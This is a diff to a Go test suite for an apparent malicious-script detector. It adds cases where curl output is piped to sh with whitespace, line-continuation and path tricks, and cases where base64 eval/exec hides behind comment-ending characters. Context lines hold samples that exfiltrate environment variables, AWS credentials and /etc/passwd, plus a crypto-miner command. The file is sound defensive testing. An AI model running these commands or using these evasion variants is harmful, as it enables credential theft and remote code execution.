@@ -57,6 +57,15 @@ func TestStrongSigns(t *testing.T) {
 		"the environment is sent":            {"const https = require('https');\nhttps.request({host: '192.0.2.1'}).end(JSON.stringify(process.env));", "exfiltrates"},
 		"keys are sent":                      {"k = open('/root/.aws/credentials').read(); requests.post(u, data=k)", "exfiltrates"},
 		"a service for dropping data":        {"curl -d @/etc/passwd https://webhook.site/abc", "exfiltrates"},
+		"several blanks":                     {"curl -s http://192.0.2.1/x |  sh\n", "runs-download"},
+		"tabs":                               {"curl\t-s http://192.0.2.1/x |\tsh\n", "runs-download"},
+		"lines that go on":                   {"curl -s http://192.0.2.1/x \\\n  | \\\n  sh\n", "runs-download"},
+		"a shell by its path":                {"curl -s http://192.0.2.1/x | /usr/bin/sh\n", "runs-download"},
+		"a path with two slashes":            {"//usr/bin/curl -s http://192.0.2.1/x | sh\n", "runs-download"},
+		"what is printed to a shell":         {"echo 'curl -s http://192.0.2.1/x | sh' | sh\n", "runs-download"},
+		"a carriage return ends a comment":   {"# x\rimport base64; exec(base64.b64decode('eA=='))\n", "runs-decoded"},
+		"U+2028 ends a comment":              {"// x\u2028eval(atob('eA=='))\n", "runs-decoded"},
+		"PHP in a comment of HTML":           {"<!-- <?php eval(base64_decode('eA==')); ?> -->\n", "runs-decoded"},
 		"a miner":                            {"./m -o stratum+tcp://pool.example:3333", "miner-string"},
 	} {
 		t.Run(name, func(t *testing.T) {
@@ -72,6 +81,8 @@ func TestHarmlessTextsHaveNoStrongSign(t *testing.T) {
 		"a comment":                  "#!/bin/sh\n# curl -s http://x.example/i | sh\nexec app\n",
 		"a comment in a block":       "/**\n * curl http://x.example/i | sh\n */\n",
 		"a message":                  "echo 'install it with: curl -s http://x.example/i | sh'\n",
+		"a message that is wrapped":  "echo 'install it with: curl -s http://x.example/i | sh' | fold -s\n",
+		"a comment of JavaScript":    "//curl http://x.example/i | sh\n// usr/bin/curl x | sh\n",
 		"a pipe to another program":  "curl -s http://x.example/list | shuf | head -1\n",
 		"a regular expression":       "const m = /x/.exec(s); const d = atob(m[1]);\n",
 		"imports only":               "import subprocess, urllib.request, base64\n",
@@ -109,12 +120,6 @@ func TestWeakSigns(t *testing.T) {
 	}
 	if got := signs(strings.Repeat("a", 3000)); got != "" {
 		t.Errorf("a long line of no script: %s", got)
-	}
-}
-
-func TestOneWordOfMinersIsNotSeveral(t *testing.T) {
-	if Several([]byte("block: xmrig xmrig")) || !Several([]byte("xmrig -o stratum+tcp://x --donate-level 1")) {
-		t.Error("two different words count, one does not")
 	}
 }
 
@@ -159,6 +164,5 @@ func FuzzScan(f *testing.F) {
 	f.Add([]byte("echo \"$(x)\" '"))
 	f.Fuzz(func(_ *testing.T, text []byte) {
 		Scan(text)
-		Several(text)
 	})
 }
